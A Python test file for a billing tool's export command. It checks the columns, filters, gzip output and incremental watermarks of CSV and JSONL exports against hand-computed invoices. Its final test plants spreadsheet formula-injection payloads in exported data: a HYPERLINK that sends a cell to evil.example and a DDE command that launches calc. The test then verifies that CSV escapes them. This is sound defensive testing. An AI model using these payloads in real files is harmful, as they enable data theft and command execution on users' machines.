"""`neruba export ...` end to end on every dialect, with values computed by hand.

The shop: project acme (UTC). Plan pro (49.00 in arrears; api_calls graduated, the first 10
free then 0.50; tokens 0.001 each past 100 free) for c1 from October 1st; plan basic (10.00 in
arrears prorated by day; api_calls 0.10 each) for c2 from October 16th; a 5.00 promotional
grant for c2 before billing.

October by hand:
  c1: base 49.00; 12 calls → 2 × 0.50 = 1.00; tokens 100 + 200 + 50.5 = 350.5 → 250.5 × 0.001
      = 0.2505 → 0.25; subtotal 50.25. Paid 20.00 (bank-1), 5.00 of it refunded: 15.00 paid,
      35.25 due.
  c2: base 10.00 × 16/31 = 5.16; 4 calls × 0.10 = 0.40; subtotal 5.56, credits 5.00, total and
      due 0.56.
Events: 12 + 3 + 1 (November) for c1, 4 for c2 = 20.
"""

from __future__ import annotations

import csv
import gzip
import io
import os
import signal
import subprocess
import sys
import threading
import time
from collections import Counter
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import orjson
import pytest
from sqlalchemy import Engine, insert, select
from sqlalchemy.orm import Session

from neruba_cli.db import locks, migrate
from neruba_cli.db.engine import create_db_engine
from neruba_cli.db.schema import Customer, ExportWatermark, Project, Refund
from neruba_cli.db.tables import customers_t, events_t, projects_t
from neruba_cli.services import output_files
from neruba_cli.services.export import watermarks, writing
from neruba_cli.services.export.kinds import COLUMNS
from neruba_cli.services.export.plan import ExportRequest
from tests.support.cli import Cli, Outcome, fails, ok
from tests.support.shops import INVOICE_CATALOG

AS_OF = "2026-11-02T00:00:00Z"
REPO = Path(__file__).resolve().parents[2]


def _event(key: str, customer: str, meter: str, ts: str, **extra: Any) -> dict[str, Any]:
    return {"idempotency_key": key, "customer": customer, "meter": meter, "timestamp": ts, **extra}


EVENTS = [
    *(
        _event(f"c1-call-{i}", "c1", "api_calls", f"2026-10-{2 + i:02d}T08:00:00Z",
               properties={"region": "eu" if i < 6 else "us"})
        for i in range(12)
    ),
    _event("c1-tok-1", "c1", "tokens", "2026-10-05T09:30:00Z", properties={"tokens": 100}),
    _event("c1-tok-2", "c1", "tokens", "2026-10-12T09:30:00Z", properties={"tokens": 200}),
    _event("c1-tok-3", "c1", "tokens", "2026-10-19T09:30:00Z",
           properties={"tokens": 50.5, "model": "small, fast"}),
    _event("c1-nov", "c1", "api_calls", "2026-11-03T10:00:00+01:00"),
    _event("c2-call-0", "c2", "api_calls", "2026-10-20T12:00:00Z", quantity="1.25"),
    _event("c2-call-1", "c2", "api_calls", "2026-10-21T12:00:00Z", quantity=2),
    _event("c2-call-2", "c2", "api_calls", "2026-10-22T12:00:00Z"),
    _event("c2-call-3", "c2", "api_calls", "2026-10-23T12:00:00.25Z"),
]  # fmt: skip


def exported(cli: Cli, kind: str, *args: str, project: str = "acme") -> Outcome:
    """The export on stdout (the data; messages on stderr)."""
    result = cli("export", kind, *args, "--project", project)
    assert result.exit_code == 0, (kind, args, result.stdout, result.stderr)
    return result


def csv_rows(cli: Cli, kind: str, *args: str) -> list[dict[str, str]]:
    text = exported(cli, kind, *args).stdout
    rows = list(csv.DictReader(io.StringIO(text)))
    if kind != "events":
        assert text.splitlines()[0] == ",".join(COLUMNS[kind])
    return rows


def jsonl_rows(cli: Cli, kind: str, *args: str) -> list[dict[str, Any]]:
    text = exported(cli, kind, "--format", "jsonl", *args).stdout
    return [orjson.loads(line) for line in text.splitlines()]


def to_file(cli: Cli, kind: str, path: Path, *args: str) -> dict[str, Any]:
    return dict(ok(cli, "export", kind, "--output", str(path), *args))


def ingest(cli: Cli, path: Path, events: list[dict[str, Any]], project: str = "acme") -> None:
    path.write_bytes(b"".join(orjson.dumps(e) + b"\n" for e in events))
    report = ok(cli, "ingest", str(path), project=project)
    assert (report["accepted"], report["rejected"]) == (len(events), 0), report


def set_up(cli: Cli, tmp_path: Path, slug: str) -> str:
    """Project, customers, catalog, subscriptions and c2's grant: everything but events.
    Returns the grant's id."""
    assert cli("project", "create", slug, "--timezone", "UTC").exit_code == 0
    for external in ("c1", "c2"):
        created = cli("customer", "create", external, "--currency", "USD", "--project", slug)
        assert created.exit_code == 0, created.stderr
    (tmp_path / "catalog.toml").write_text(INVOICE_CATALOG)
    ok(cli, "catalog", "apply", str(tmp_path / "catalog.toml"), project=slug)
    ok(cli, "subscription", "create", "c1", "pro", "--start", "2026-10-01T00:00:00Z", project=slug)
    ok(cli, "subscription", "create", "c2", "basic", "--start", "2026-10-16T00:00:00Z",
       project=slug)  # fmt: skip
    return str(ok(cli, "credits", "grant", "c2", "5.00", project=slug)["id"])


def bill(cli: Cli, project: str = "acme") -> None:
    report = ok(cli, "run", "bill", "--period", "2026-10", "--as-of", AS_OF, "--finalize",
                project=project)  # fmt: skip
    assert (report["status"], report["invoices"]) == ("completed", 2), report


@pytest.fixture
def shop(cli: Cli, tmp_path: Path) -> dict[str, Any]:
    grant = set_up(cli, tmp_path, "acme")
    ingest(cli, tmp_path / "events.jsonl", EVENTS)
    bill(cli)
    payment = ok(cli, "payment", "record", "ACME-000001", "20.00", "--reference", "bank-1")
    ok(cli, "payment", "refund", payment["id"], "5.00", "--reason", "goodwill")
    return {"cli": cli, "grant": grant, "payment": payment["id"], "at": payment["received_at"]}


def refund_ids(engine: Engine) -> list[str]:
    with engine.connect() as conn:
        return list(conn.execute(select(Refund.id).order_by(Refund.created_at)).scalars())


# --------------------------------------------------------------------------- every kind


def test_every_kind_exports_its_documented_columns(shop: dict[str, Any], engine: Engine) -> None:
    cli = shop["cli"]
    invoices = csv_rows(cli, "invoices")
    assert [
        (i["number"], i["customer"], i["kind"], i["status"], i["period"], i["currency"])
        for i in invoices
    ] == [
        ("ACME-000001", "c1", "invoice", "finalized", "2026-10", "USD"),
        ("ACME-000002", "c2", "invoice", "finalized", "2026-10", "USD"),
    ]
    money = ("subtotal", "credits_applied", "total", "amount_due", "amount_paid")
    assert [tuple(i[m] for m in money) for i in invoices] == [
        ("50.25", "0.00", "50.25", "35.25", "15.00"),
        ("5.56", "5.00", "0.56", "0.56", "0.00"),
    ]
    first = invoices[0]
    assert (first["period_start"], first["period_end"]) == (
        "2026-10-01T00:00:00Z",
        "2026-11-01T00:00:00Z",
    )
    assert first["run"].startswith("run_") and first["fingerprint"].startswith("sha256:")
    assert (first["corrects"], first["voided_at"], first["version"]) == ("", "", "1")
    assert first["finalized_at"].endswith("Z") and first["updated_at"].endswith("Z")
    shown = ok(cli, "invoice", "show", "ACME-000001")
    assert (first["fingerprint"], first["finalized_at"]) == (
        shown["fingerprint"],
        shown["finalized_at"],
    )

    lines = csv_rows(cli, "lines")
    assert [
        (x["invoice"], x["customer"], x["line"], x["kind"], x["meter"], x["quantity"],
         x["amount"], x["currency"], x["events"])
        for x in lines
    ] == [
        ("ACME-000001", "c1", "1", "base_fee", "", "", "49.00", "USD", ""),
        ("ACME-000001", "c1", "2", "usage", "api_calls", "12", "1.00", "USD", "12"),
        ("ACME-000001", "c1", "3", "usage", "tokens", "350.5", "0.25", "USD", "3"),
        ("ACME-000002", "c2", "1", "base_fee", "", "", "5.16", "USD", ""),
        ("ACME-000002", "c2", "2", "usage", "api_calls", "4", "0.40", "USD", "4"),
    ]  # fmt: skip
    assert [x["plan"] for x in lines] == ["pro@1"] * 3 + ["basic@1"] * 2
    assert [(x["service_start"], x["service_end"]) for x in lines[3:]] == [
        ("2026-10-16T00:00:00Z", "2026-11-01T00:00:00Z")
    ] * 2
    assert [x["description"] for x in lines] == [
        line["description"]
        for number in ("ACME-000001", "ACME-000002")
        for line in ok(cli, "invoice", "show", number)["lines"]
    ]

    ledger = csv_rows(cli, "ledger")
    by_txn: dict[str, list[dict[str, str]]] = {}
    for entry in ledger:
        by_txn.setdefault(entry["transaction"], []).append(entry)
        assert Decimal(entry["amount"]) == Decimal(entry["debit"] or 0) - Decimal(
            entry["credit"] or 0
        )
        assert entry["effective_at"].endswith("Z") and entry["created_at"].endswith("Z")
    assert all(sum(Decimal(e["amount"]) for e in txn) == 0 for txn in by_txn.values())
    assert all(t.startswith("txn_") for t in by_txn)
    assert Counter(txn[0]["kind"] for txn in by_txn.values()) == {
        "credit_granted": 1,
        "invoice_finalized": 2,
        "credits_applied": 1,
        "payment_recorded": 1,
        "payment_refunded": 1,
    }
    shown_ledger = ok(cli, "ledger", "show")
    assert [(t["id"], len(t["entries"])) for t in shown_ledger] == [
        (txn, len(entries)) for txn, entries in by_txn.items()
    ]
    receivable = [
        e for e in ledger if (e["account"], e["kind"]) == ("receivable", "invoice_finalized")
    ]
    assert [(e["customer"], e["debit"], e["credit"], e["invoice"]) for e in receivable] == [
        ("c1", "50.25", "", "ACME-000001"),
        ("c2", "5.56", "", "ACME-000002"),
    ]
    wallet = [e for e in ledger if e["account"] == "wallet"]
    assert [(e["kind"], e["customer"], e["amount"], e["grant"]) for e in wallet] == [
        ("credit_granted", "c2", "-5.00", shop["grant"]),
        ("credits_applied", "c2", "5.00", shop["grant"]),
    ]
    refunded = [e for e in ledger if e["kind"] == "payment_refunded"]
    assert {(e["account"], e["amount"]) for e in refunded} == {
        ("cash", "-5.00"),
        ("receivable", "5.00"),
    }

    events = exported(cli, "events").stdout.splitlines()
    assert events[0] == (
        "idempotency_key,customer,meter,timestamp,quantity,operation,"
        "properties.model,properties.region,properties.tokens"
    )
    assert events[1] == "c1-call-0,c1,api_calls,2026-10-02T08:00:00Z,1,,,eu,"
    assert events[15] == 'c1-tok-3,c1,tokens,2026-10-19T09:30:00Z,1,,"small, fast",,50.5'
    assert events[16] == "c1-nov,c1,api_calls,2026-11-03T09:00:00Z,1,,,,"
    assert events[17:] == [
        "c2-call-0,c2,api_calls,2026-10-20T12:00:00Z,1.25,,,,",
        "c2-call-1,c2,api_calls,2026-10-21T12:00:00Z,2,,,,",
        "c2-call-2,c2,api_calls,2026-10-22T12:00:00Z,1,,,,",
        "c2-call-3,c2,api_calls,2026-10-23T12:00:00.250000Z,1,,,,",
    ]
    assert len(events) == 1 + len(EVENTS)

    usage = csv_rows(cli, "usage")
    assert len(usage) == 12 + 1 + 3 + 4
    assert usage[0] == {"customer": "c1", "meter": "api_calls", "day": "2026-10-02",
                        "events": "1", "quantity": "1", "group": ""}  # fmt: skip
    assert [(u["meter"], u["day"]) for u in usage[12:16]] == [
        ("api_calls", "2026-11-03"),
        ("tokens", "2026-10-05"),
        ("tokens", "2026-10-12"),
        ("tokens", "2026-10-19"),
    ]
    assert [(u["customer"], u["day"], u["events"], u["quantity"]) for u in usage[16:]] == [
        ("c2", "2026-10-20", "1", "1.25"),
        ("c2", "2026-10-21", "1", "2"),
        ("c2", "2026-10-22", "1", "1"),
        ("c2", "2026-10-23", "1", "1"),
    ]

    credits = csv_rows(cli, "credits")
    assert len(credits) == 1
    grant = credits[0]
    listed = ok(cli, "credits", "list", "c2")[0]
    assert grant == {
        "grant": shop["grant"],
        "customer": "c2",
        "currency": "USD",
        "amount": "5.00",
        "remaining": "0.00",
        "category": "promotional",
        "priority": str(listed["priority"]),
        "expires_at": "",
        "source": "grant",
        "source_ref": "",
        "reason": "",
        "created_at": listed["created_at"],
        "revoked_at": "",
        "expired_at": "",
    }

    payments = csv_rows(cli, "payments")
    (refund,) = refund_ids(engine)
    assert [{k: v for k, v in p.items() if k != "created_at"} for p in payments] == [
        {
            "kind": "payment",
            "payment": shop["payment"],
            "refund": "",
            "invoice": "ACME-000001",
            "customer": "c1",
            "currency": "USD",
            "amount": "20.00",
            "applied": "20.00",
            "refunded": "5.00",
            "reference": "bank-1",
            "reason": "",
            "received_at": shop["at"],
        },
        {
            "kind": "refund",
            "payment": shop["payment"],
            "refund": refund,
            "invoice": "ACME-000001",
            "customer": "c1",
            "currency": "USD",
            "amount": "-5.00",
            "applied": "",
            "refunded": "",
            "reference": "bank-1",
            "reason": "goodwill",
            "received_at": payments[1]["created_at"],
        },
    ]
    assert refund.startswith("rfd_")


def test_jsonl_has_the_csv_columns_in_the_same_order(shop: dict[str, Any]) -> None:
    cli = shop["cli"]
    for kind in ("invoices", "lines", "ledger", "usage", "credits", "payments"):
        objects = jsonl_rows(cli, kind)
        rows = csv_rows(cli, kind)
        assert objects and len(objects) == len(rows), kind
        for obj, row in zip(objects, rows, strict=True):
            assert list(obj) == list(COLUMNS[kind]), kind
            assert {k: "" if v is None else str(v) for k, v in obj.items()} == row, kind
    invoice = jsonl_rows(cli, "invoices")[0]
    assert (invoice["version"], invoice["corrects"], invoice["amount_due"]) == (1, None, "35.25")
    assert isinstance(jsonl_rows(cli, "usage")[0]["events"], int)

    events = jsonl_rows(cli, "events")
    assert [list(e) for e in events] == [list(COLUMNS["events"])] * len(EVENTS)
    assert events[14] == {
        "idempotency_key": "c1-tok-3",
        "customer": "c1",
        "meter": "tokens",
        "timestamp": "2026-10-19T09:30:00Z",
        "quantity": "1",
        "operation": None,
        "properties": {"tokens": 50.5, "model": "small, fast"},
    }
    assert events[16]["quantity"] == "1.25" and events[16]["properties"] == {}
    assert [e["idempotency_key"] for e in events] == [e["idempotency_key"] for e in EVENTS]


def test_gzip_round_trip_to_a_file_and_to_stdout(shop: dict[str, Any], tmp_path: Path) -> None:
    cli = shop["cli"]
    plain = exported(cli, "ledger").stdout.encode()
    summary = to_file(cli, "ledger", tmp_path / "ledger.csv.gz")  # .gz implies --gzip
    assert (summary["gzip"], summary["format"]) == (True, "csv")
    assert summary["rows"] == len(plain.splitlines()) - 1
    packed = (tmp_path / "ledger.csv.gz").read_bytes()
    assert gzip.decompress(packed) == plain
    to_file(cli, "ledger", tmp_path / "again.csv.gz")
    assert (tmp_path / "again.csv.gz").read_bytes() == packed  # no time or name in the header

    jsonl = exported(cli, "events", "--format", "jsonl").stdout.encode()
    summary = to_file(cli, "events", tmp_path / "events.out", "--gzip", "--format", "jsonl")
    assert (summary["gzip"], summary["format"], summary["rows"]) == (True, "jsonl", len(EVENTS))
    assert gzip.decompress((tmp_path / "events.out").read_bytes()) == jsonl
    assert to_file(cli, "events", tmp_path / "events.jsonl.gz")["format"] == "jsonl"

    argv = ["export", "events", "--gzip", "--format", "jsonl", "--project", "acme"]
    result = cli(*argv)
    assert result.exit_code == 0, result.stderr
    assert gzip.decompress(result.stdout_bytes) == jsonl
    assert "Exported 20 rows of events to stdout" in result.stderr


# --------------------------------------------------------------------------- filters


def test_customer_and_period_filters(shop: dict[str, Any]) -> None:
    cli = shop["cli"]
    for kind in ("invoices", "lines", "events", "usage", "credits", "payments"):
        every = csv_rows(cli, kind)
        for customer in ("c1", "c2"):
            mine = csv_rows(cli, kind, "--customer", customer)
            if kind == "events":  # properties.<name> columns: only those of c2's events
                mine = [{k: v for k, v in row.items() if "." not in k} for row in mine]
                every = [{k: v for k, v in row.items() if "." not in k} for row in every]
            assert mine == [row for row in every if row["customer"] == customer], kind
    assert exported(cli, "events", "--customer", "c2").stdout.splitlines()[0] == (
        "idempotency_key,customer,meter,timestamp,quantity,operation"
    )
    c2_ledger = csv_rows(cli, "ledger", "--customer", "c2")
    assert {e["customer"] for e in c2_ledger} == {"c2"}
    assert {(e["kind"], e["account"]) for e in c2_ledger} == {
        ("credit_granted", "wallet"),
        ("invoice_finalized", "receivable"),
        ("credits_applied", "wallet"),
        ("credits_applied", "receivable"),
    }
    missing = fails(cli, 1, "export", "events", "--customer", "nobody")
    assert missing["type"] == "not_found" and "nobody" in missing["message"]

    assert len(csv_rows(cli, "invoices", "--period", "2026-10")) == 2
    assert csv_rows(cli, "invoices", "--period", "2026-09") == []
    assert len(csv_rows(cli, "lines", "--period", "2026-10", "--customer", "c2")) == 2
    october = csv_rows(cli, "events", "--period", "2026-10")
    assert len(october) == len(EVENTS) - 1 and "c1-nov" not in {
        e["idempotency_key"] for e in october
    }
    assert [e["idempotency_key"] for e in csv_rows(cli, "events", "--period", "2026-11")] == [
        "c1-nov"
    ]
    assert [u["day"] for u in csv_rows(cli, "usage", "--period", "2026-11")] == ["2026-11-03"]
    assert len(csv_rows(cli, "usage", "--period", "2026-10")) == 19
    payments = csv_rows(cli, "payments", "--period", "current")
    assert [p["kind"] for p in payments] == ["payment", "refund"]
    assert csv_rows(cli, "payments", "--period", "2026-01") == []
    assert len(csv_rows(cli, "ledger", "--period", "current")) == len(csv_rows(cli, "ledger"))
    assert csv_rows(cli, "ledger", "--period", "2026-01") == []
    assert csv_rows(cli, "credits", "--period", "current")[0]["grant"] == shop["grant"]
    assert csv_rows(cli, "credits", "--period", "2026-01") == []
    bad = fails(cli, 2, "export", "events", "--period", "2026-13")
    assert "not a month" in bad["message"]


def test_period_months_are_in_the_project_time_zone(cli: Cli, tmp_path: Path) -> None:
    assert cli("project", "create", "tokyo", "--timezone", "Asia/Tokyo").exit_code == 0
    assert cli("customer", "create", "c1", "--project", "tokyo").exit_code == 0
    (tmp_path / "catalog.toml").write_text(INVOICE_CATALOG)
    ok(cli, "catalog", "apply", str(tmp_path / "catalog.toml"), project="tokyo")
    ingest(cli, tmp_path / "e.jsonl", [
        _event("late-sept", "c1", "api_calls", "2026-09-30T15:30:00Z"),  # Oct 1st in Tokyo
        _event("late-oct", "c1", "api_calls", "2026-10-31T15:30:00Z"),  # Nov 1st in Tokyo
    ], project="tokyo")  # fmt: skip
    october = exported(cli, "events", "--period", "2026-10", "--format", "jsonl", project="tokyo")
    assert [orjson.loads(x)["idempotency_key"] for x in october.stdout.splitlines()] == [
        "late-sept"
    ]


# --------------------------------------------------------------------------- incremental


def stored(engine: Engine, name: str, kind: str) -> str | None:
    with engine.connect() as conn:
        return conn.execute(
            select(ExportWatermark.watermark).where(
                ExportWatermark.name == name, ExportWatermark.kind == kind
            )
        ).scalar()


def test_named_event_exports_ship_each_event_exactly_once(
    shop: dict[str, Any], tmp_path: Path, engine: Engine
) -> None:
    cli = shop["cli"]
    first = to_file(cli, "events", tmp_path / "n1.csv", "--name", "nightly")
    assert (first["rows"], first["since"], first["name"]) == (len(EVENTS), None, "nightly")
    assert (
        first["watermark"] == f"{first['watermark'].split(':')[0]}:0"
        and stored(engine, "nightly", "events") == first["watermark"]
    )
    assert first["output"] == str(tmp_path / "n1.csv")

    later = [_event(f"late-{i}", "c2", "api_calls", f"2026-10-2{i}T18:00:00Z") for i in range(2)]
    ingest(cli, tmp_path / "late.jsonl", later)
    second = to_file(cli, "events", tmp_path / "n2.jsonl", "--name", "nightly")
    assert (second["rows"], second["since"]) == (2, first["watermark"])
    assert int(second["watermark"].split(":")[0]) > int(first["watermark"].split(":")[0])
    keys = [
        orjson.loads(x)["idempotency_key"]
        for x in (tmp_path / "n2.jsonl").read_bytes().splitlines()
    ]
    assert keys == ["late-0", "late-1"]
    assert stored(engine, "nightly", "events") == second["watermark"]

    nothing = to_file(cli, "events", tmp_path / "n3.csv", "--name", "nightly")
    assert (nothing["rows"], nothing["watermark"]) == (0, second["watermark"])
    assert (tmp_path / "n3.csv").read_text().startswith("idempotency_key,customer,meter,timestamp")

    # the printed watermark works as --since, and a name is per kind
    again = cli("export", "events", "--since", first["watermark"], "--project", "acme", "--json")
    assert again.exit_code == 0, again.stderr
    assert [r["idempotency_key"] for r in csv.DictReader(io.StringIO(again.stdout))] == keys
    summary = orjson.loads(again.stderr.strip().splitlines()[-1])  # stdout carries the data
    assert (summary["rows"], summary["since"], summary["output"]) == (2, first["watermark"], "-")
    usage = to_file(
        cli, "usage", tmp_path / "u.csv", "--name", "nightly", "--since", first["watermark"]
    )
    assert usage["rows"] == 2 and stored(engine, "nightly", "usage") == usage["watermark"]
    # a time is fine too: events received at or after it
    assert len(csv_rows(cli, "events", "--since", "2000-01-01")) == len(EVENTS) + 2
    assert csv_rows(cli, "events", "--since", "2999-01-01T00:00:00Z") == []


def test_a_failed_export_leaves_no_file_and_keeps_the_watermark(
    shop: dict[str, Any], tmp_path: Path, engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    cli = shop["cli"]
    target = tmp_path / "events.csv"
    first = to_file(cli, "events", target, "--name", "nightly")
    before = target.read_bytes()
    ingest(
        cli, tmp_path / "late.jsonl", [_event("late", "c1", "api_calls", "2026-10-30T00:00:00Z")]
    )

    # the disk fills up half way: the temporary's writes go to /dev/full
    created = output_files._create_exclusively

    def on_a_full_disk(*args: Any) -> tuple[int, Path]:
        fd, path = created(*args)
        full_disk = os.open("/dev/full", os.O_WRONLY)
        os.dup2(full_disk, fd)
        os.close(full_disk)
        return fd, path

    with monkeypatch.context() as patched:
        patched.setattr(output_files, "_create_exclusively", on_a_full_disk)
        full = fails(cli, 1, "export", "events", "--output", str(target), "--name", "nightly")
    assert "No space left on device" in full["message"], full
    assert target.read_bytes() == before  # the previous file, untouched
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []
    assert stored(engine, "nightly", "events") == first["watermark"]

    missing = fails(
        cli, 1, "export", "events", "-o", str(tmp_path / "nope" / "x.csv"), "--name", "nightly"
    )
    assert "does not exist" in missing["message"]
    assert stored(engine, "nightly", "events") == first["watermark"]

    lease = locks.acquire(engine, "acme:export:nightly:events")
    busy = fails(cli, 5, "export", "events", "--output", str(target), "--name", "nightly")
    assert busy["type"] == "lock_held" and "acme:export:nightly:events" in busy["message"]
    locks.release(engine, lease)

    done = to_file(cli, "events", target, "--name", "nightly")
    assert (done["rows"], done["since"]) == (1, first["watermark"])
    assert target.read_text().splitlines()[1].startswith("late,c1,api_calls,")


def test_rows_committed_during_an_export_are_not_skipped(
    shop: dict[str, Any], tmp_path: Path, engine: Engine, dialect: str
) -> None:
    """An event inserted before the export starts but committed while it runs: on the
    servers the export waits for it and includes it; on SQLite (one writer) it is left for
    the next run. Either way the two runs together hold every event exactly once."""
    cli = shop["cli"]
    with engine.connect() as conn:
        project_id = conn.execute(select(Project.id).where(Project.slug == "acme")).scalar_one()
        customer_id = conn.execute(
            select(Customer.id).where(
                Customer.external_id == "c1", Customer.project_id == project_id
            )
        ).scalar_one()
    writer = engine.connect()
    writer.begin()
    now = datetime.now(UTC)
    writer.execute(
        insert(events_t).values(
            project_id=project_id, idempotency_key="in-flight", customer_id=customer_id,
            meter="api_calls", ts=datetime(2026, 10, 30, tzinfo=UTC), quantity=Decimal(1),
            properties="{}", payload_hash="0" * 64, received_at=now,
        )
    )  # fmt: skip
    timer = threading.Timer(1.0, writer.commit)
    timer.start()
    try:
        first = to_file(cli, "events", tmp_path / "a.csv")
    finally:
        timer.join()
        writer.close()
    second = to_file(cli, "events", tmp_path / "b.csv", "--since", first["watermark"])
    keys = [
        row["idempotency_key"]
        for name in ("a.csv", "b.csv")
        for row in csv.DictReader(io.StringIO((tmp_path / name).read_text()))
    ]
    assert sorted(keys) == sorted([e["idempotency_key"] for e in EVENTS] + ["in-flight"])
    if dialect != "sqlite":  # the export waited for the writer
        assert (first["rows"], second["rows"]) == (len(EVENTS) + 1, 0)


def test_ledger_exports_are_incremental_by_entry(shop: dict[str, Any], tmp_path: Path) -> None:
    cli = shop["cli"]
    first = to_file(cli, "ledger", tmp_path / "l1.csv", "--name", "books")
    assert first["rows"] == len(csv_rows(cli, "ledger"))
    ok(cli, "credits", "grant", "c1", "3.00", "--idempotency-key", "extra")
    second = to_file(cli, "ledger", tmp_path / "l2.csv", "--name", "books")
    rows = list(csv.DictReader(io.StringIO((tmp_path / "l2.csv").read_text())))
    assert second["rows"] == 2 and {r["kind"] for r in rows} == {"credit_granted"}
    assert {(r["account"], r["amount"]) for r in rows} == {
        ("wallet", "-3.00"),
        ("expense:promotional", "3.00"),
    }


def test_document_exports_bring_back_what_changed(shop: dict[str, Any], tmp_path: Path) -> None:
    """invoices, lines, credits and payments: rows changed since the watermark (an invoice
    paid, a payment refunded), again in full; consumers upsert them by their key."""
    cli = shop["cli"]
    now = datetime.now(UTC)
    invoices = to_file(cli, "invoices", tmp_path / "i1.csv", "--name", "dw", "--overlap", "0s")
    assert invoices["rows"] == 2
    mark = datetime.fromisoformat(invoices["watermark"].replace("Z", "+00:00"))
    assert now - timedelta(seconds=5) < mark <= datetime.now(UTC)
    payments = to_file(cli, "payments", tmp_path / "p1.csv", "--name", "dw", "--overlap", "0s")
    lines = to_file(cli, "lines", tmp_path / "x1.csv", "--name", "dw", "--overlap", "0s")
    credits = to_file(cli, "credits", tmp_path / "c1.csv", "--name", "dw", "--overlap", "0s")
    assert (payments["rows"], lines["rows"], credits["rows"]) == (2, 5, 1)

    paid = ok(cli, "payment", "record", "ACME-000002", "0.56", "--reference", "bank-2")
    ok(cli, "payment", "refund", shop["payment"], "1.00")
    changed = to_file(cli, "invoices", tmp_path / "i2.csv", "--name", "dw", "--overlap", "0s")
    rows = list(csv.DictReader(io.StringIO((tmp_path / "i2.csv").read_text())))
    assert changed["since"] == invoices["watermark"]
    assert [(r["number"], r["status"], r["amount_due"], r["amount_paid"]) for r in rows] == [
        ("ACME-000001", "finalized", "36.25", "14.00"),
        ("ACME-000002", "paid", "0.00", "0.56"),
    ]
    money = to_file(cli, "payments", tmp_path / "p2.csv", "--name", "dw", "--overlap", "0s")
    rows = list(csv.DictReader(io.StringIO((tmp_path / "p2.csv").read_text())))
    assert money["rows"] == 3
    assert [(r["kind"], r["payment"], r["amount"], r["refunded"]) for r in rows[:1]] == [
        ("payment", shop["payment"], "20.00", "6.00")  # changed: refunded again
    ]
    assert {(r["kind"], r["payment"], r["amount"]) for r in rows[1:]} == {
        ("payment", paid["id"], "0.56"),
        ("refund", shop["payment"], "-1.00"),
    }
    lines2 = to_file(cli, "lines", tmp_path / "x2.csv", "--name", "dw", "--overlap", "0s")
    assert lines2["rows"] == 5  # every line of each changed invoice
    assert (
        to_file(cli, "credits", tmp_path / "c2.csv", "--name", "dw", "--overlap", "0s")["rows"] == 0
    )

    # by default the watermark stays 5 minutes back, and it never moves backwards
    wide = to_file(cli, "invoices", tmp_path / "i3.csv")
    mark = datetime.fromisoformat(wide["watermark"].replace("Z", "+00:00"))
    expected = datetime.now(UTC) - timedelta(minutes=5)
    assert expected - timedelta(seconds=30) < mark <= expected
    again = to_file(cli, "invoices", tmp_path / "i4.csv", "--since", invoices["watermark"])
    assert (again["rows"], again["watermark"]) == (2, invoices["watermark"])
    wrong = fails(cli, 2, "export", "invoices", "--since", "42")
    assert "invoices watermarks are times" in wrong["message"]


def test_bad_arguments_are_clear(shop: dict[str, Any], tmp_path: Path) -> None:
    cli = shop["cli"]
    assert (
        "not one of: csv, jsonl" in fails(cli, 2, "export", "events", "--format", "xml")["message"]
    )
    assert "is not a name" in fails(cli, 2, "export", "events", "--name", "a b")["message"]
    assert "RFC 3339" in fails(cli, 2, "export", "events", "--since", "yesterday")["message"]
    assert "--overlap" in fails(cli, 2, "export", "invoices", "--overlap", "5m")["message"]
    # an output path that cannot be written is an error, not a usage error
    assert "is a folder" in fails(cli, 1, "export", "events", "-o", str(tmp_path))["message"]


# --------------------------------------------------------------------------- formulas

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE = {"cmd": "=cmd|' /C calc'!A0", "sum": "+1+1", "at": "@SUM(A1)", "tab": "\t=1"}


def test_cells_a_spreadsheet_would_run_are_escaped_and_numbers_stay_numbers(
    shop: dict[str, Any], tmp_path: Path
) -> None:
    """Text sent in with an ingest key that starts with = + - @ (or a tab) gets a leading '
    in every CSV export; numbers (-5, -5.00) stay as they are; --raw and JSONL keep the
    stored text, and a --raw events file imports back as duplicates only."""
    cli = shop["cli"]
    ok(cli, "charge", "add", "c1", "--amount", "3.00", "--description", HYPERLINK,
       "--idempotency-key", "evil-charge", "--at", "2026-11-10T00:00:00Z")  # fmt: skip
    hostile = [
        _event("@evil", "c1", "api_calls", "2026-11-04T10:00:00Z",
               properties={**HOSTILE, "delta": "-5", "minus": "-"}),
        _event("plain", "c1", "api_calls", "2026-11-04T11:00:00Z", properties={"delta": -5}),
    ]  # fmt: skip
    ingest(cli, tmp_path / "hostile.jsonl", hostile)
    ok(cli, "run", "bill", "--period", "2026-11", "--as-of", "2026-12-02T00:00:00Z")
    ok(cli, "payment", "record", "ACME-000001", "1.00", "--reference", "=HYPERLINK(2)")

    lines = {row["line"]: row for row in csv_rows(cli, "lines", "--period", "2026-11")}
    assert [row["description"] for row in lines.values() if "HYPERLINK" in row["description"]] == [
        "'" + HYPERLINK
    ]
    raw_lines = csv_rows(cli, "lines", "--period", "2026-11", "--raw")
    assert HYPERLINK in [row["description"] for row in raw_lines]
    assert HYPERLINK in [row["description"] for row in jsonl_rows(cli, "lines")]

    events = {row["idempotency_key"]: row for row in csv_rows(cli, "events")}
    assert "@evil" not in events
    evil = events["'@evil"]
    assert {name: evil[f"properties.{name}"] for name in HOSTILE} == {
        name: "'" + text for name, text in HOSTILE.items()
    }
    assert (evil["properties.delta"], evil["properties.minus"]) == ("-5", "'-")
    assert events["plain"]["properties.delta"] == "-5"  # a number stays a number
    raw = {row["idempotency_key"]: row for row in csv_rows(cli, "events", "--raw")}
    assert raw["@evil"]["properties.cmd"] == HOSTILE["cmd"]
    assert raw["@evil"]["properties.tab"] == HOSTILE["tab"]
    as_json = {row["idempotency_key"]: row for row in jsonl_rows(cli, "events")}
    assert as_json["@evil"]["properties"]["sum"] == "+1+1"

    payments = csv_rows(cli, "payments")
    assert "'=HYPERLINK(2)" in [row["reference"] for row in payments]
    # nothing to escape: byte for byte what --raw writes, negative amounts included
    for kind in ("invoices", "ledger", "usage", "credits"):
        assert exported(cli, kind).stdout == exported(cli, kind, "--raw").stdout, kind
    ledger = exported(cli, "ledger").stdout
    assert ",-" in ledger and ",'-" not in ledger

    # --raw is what `neruba ingest` reads back: the text arrives as it was sent
    (tmp_path / "raw.csv").write_text(exported(cli, "events", "--raw").stdout)
    set_up(cli, tmp_path, "beta")
    again = ok(cli, "ingest", str(tmp_path / "raw.csv"), project="beta")
